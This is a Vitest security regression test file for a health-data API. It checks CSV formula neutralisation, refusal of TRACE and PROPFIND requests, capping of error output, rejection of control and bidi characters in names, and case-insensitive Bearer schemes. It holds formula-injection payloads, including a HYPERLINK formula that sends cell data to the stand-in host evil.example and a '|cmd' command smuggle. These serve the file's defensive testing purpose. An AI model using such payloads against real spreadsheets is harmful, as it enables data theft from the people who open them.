// The defects a black-box security test found from outside (issue 15), each replayed as the attack it was.
import { request } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registerAndLogin, type BuiltAccount } from '../helpers/builders.js';
import { createTestApp, type TestApp } from '../helpers/test-app.js';

let app: TestApp;
let member: BuiltAccount;
beforeAll(async () => {
  app = await createTestApp();
  member = await registerAndLogin(app);
});
afterAll(() => app.close());

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

describe('CSV export opened in a spreadsheet', () => {
  it('neutralises formulas in notes, and uploads again to the very same notes', async () => {
    const source = await registerAndLogin(app);
    const notes = [HYPERLINK, '+SUM(1,2)', '-2+3|cmd', '@A1', "'=already guarded", 'a plain note'];
    const observations = notes.map((note, i) => ({
      category: 'heart-rate',
      value: 60 + i,
      unit: '/min',
      effectiveAt: new Date(Date.UTC(2025, 0, 1 + i)).toISOString(),
      note,
    }));
    const uploaded = await app.request('POST', '/api/me/observations', {
      token: source.accessToken,
      body: {
        observations: [...observations, { ...observations[0], effectiveAt: '2025-02-01T00:00:00Z', note: '\t=1+1' }],
      },
    });
    expect(uploaded.status, uploaded.text).toBe(201);
    const exported = await app.request('GET', '/api/me/export?format=csv', { token: source.accessToken });
    expect(exported.status).toBe(200);
    // No cell of the file starts a formula (a quoted cell starts after its quote).
    const cells = exported.text.split(/\r\n/).flatMap((line) => line.split(','));
    expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(exported.text).toContain(`"'=HYPERLINK(`);
    expect(exported.text).toContain("''=already guarded");

    const target = await registerAndLogin(app);
    const again = await app.request('POST', '/api/me/observations', {
      token: target.accessToken,
      rawBody: exported.text,
      headers: { 'content-type': 'text/csv' },
    });
    expect(again.status, again.text).toBe(201);
    const notesOf = async (who: BuiltAccount) =>
      (
        (await app.request('GET', '/api/me/observations?limit=100', { token: who.accessToken })).body.observations as {
          note?: string;
        }[]
      ).map((o) => o.note);
    // The leading tab was trimmed on the way in (notes are trimmed), so that one is stored as =1+1.
    expect(await notesOf(target)).toEqual([...notes, '=1+1']);
    expect(await notesOf(target)).toEqual(await notesOf(source));
  });
});

/** A request with any method (fetch refuses TRACE): status and headers. */
function rawMethod(method: string, path: string): Promise<{ status: number; allow: string | undefined; body: any }> {
  return new Promise((resolve, reject) => {
    const req = request(new URL(path, app.baseUrl), { method, agent: false }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () =>
        resolve({ status: res.statusCode ?? 0, allow: res.headers.allow, body: text ? JSON.parse(text) : undefined }),
      );
    });
    req.on('error', reject);
    req.end();
  });
}

describe('methods', () => {
  it.each(['TRACE', 'PROPFIND'])('answers %s with 405 and the methods the path allows', async (method) => {
    const response = await rawMethod(method, '/api/auth/login');
    expect(response.status).toBe(405);
    expect(response.body.error.code).toBe('method_not_allowed');
    expect(response.allow).toContain('POST');
  });

  it('answers an unknown method outside the API with 405 and Allow: GET, HEAD', async () => {
    const response = await rawMethod('PROPFIND', '/');
    expect(response.status).toBe(405);
    expect(response.allow).toBe('GET, HEAD');
  });
});

describe('error responses do not amplify their input', () => {
  it('lists at most 100 problems of a body with 20,000 unknown keys, and how many there were', async () => {
    const body: Record<string, string> = {};
    for (let i = 0; i < 20_000; i++) body[`k${i}`] = 'x';
    const raw = JSON.stringify(body);
    expect(raw.length).toBeGreaterThan(200_000);
    const response = await app.request('PATCH', '/api/me', {
      token: member.accessToken,
      rawBody: raw,
      headers: { 'content-type': 'application/json' },
    });
    expect(response.status).toBe(400);
    expect(response.body.error.details).toHaveLength(100);
    expect(response.body.error.detailCount).toBe(20_000);
    expect(response.text.length).toBeLessThan(raw.length / 10);
  });

  it('caps the problems of a bad CSV upload the same way', async () => {
    const rows = Array.from({ length: 5_000 }, (_, i) => `heart-rate,not-a-number-${i},/min,2025-01-01T00:00:00Z`);
    const csv = ['category,value,unit,effectiveAt', ...rows].join('\r\n');
    const response = await app.request('POST', '/api/me/observations', {
      token: member.accessToken,
      rawBody: csv,
      headers: { 'content-type': 'text/csv' },
    });
    expect(response.status).toBe(400);
    expect(response.body.error.details).toHaveLength(100);
    expect(response.body.error.detailCount).toBeGreaterThanOrEqual(5_000);
    expect(response.text.length).toBeLessThan(csv.length);
  });
});

describe('display names', () => {
  it.each([
    ['a NUL', 'Ann\u0000a'],
    ['an escape sequence', 'Anna \u001b[31mred'],
    ['a line break inside', 'Anna\nSteward'],
    ['a right-to-left override', 'Anna \u202Eevil'],
    ['a directional isolate', 'Anna \u2066x\u2069'],
    ['a lone high surrogate', 'Anna \ud800'],
    ['a lone low surrogate', 'Anna \udc00 x'],
  ])('refuses %s, at registration and on a change', async (_label, name) => {
    const registered = await app.request('POST', '/api/auth/register', {
      body: { email: `odd-${Math.random()}@example.org`, password: 'a long enough password', name, role: 'member' },
    });
    expect(registered.status).toBe(400);
    expect(registered.body.error.details).toEqual([
      expect.objectContaining({ field: 'name', code: 'invalid_characters' }),
    ]);
    const patched = await app.request('PATCH', '/api/me', { token: member.accessToken, body: { name } });
    expect(patched.status).toBe(400);
    expect(patched.body.error.details[0]).toMatchObject({ field: 'name', code: 'invalid_characters' });
  });

  it.each([
    ['accents and scripts', 'Zoë Ødegård 山田 花子'],
    ['an emoji (a surrogate pair)', 'Anna 🌻'],
    ['a right-to-left script', 'مريم'],
  ])('accepts %s', async (_label, name) => {
    const patched = await app.request('PATCH', '/api/me', { token: member.accessToken, body: { name } });
    expect(patched.status, patched.text).toBe(200);
    expect(patched.body.name).toBe(name);
  });
});

describe('the Bearer scheme', () => {
  it.each(['bearer', 'BEARER', 'BeArEr'])(
    'accepts the scheme written %s (case-insensitive, RFC 9110)',
    async (scheme) => {
      const response = await app.request('GET', '/api/me', {
        headers: { authorization: `${scheme} ${member.accessToken}` },
      });
      expect(response.status).toBe(200);
    },
  );

  it('still refuses another scheme with the same token', async () => {
    const response = await app.request('GET', '/api/me', { headers: { authorization: `Token ${member.accessToken}` } });
    expect(response.status).toBe(401);
  });
});
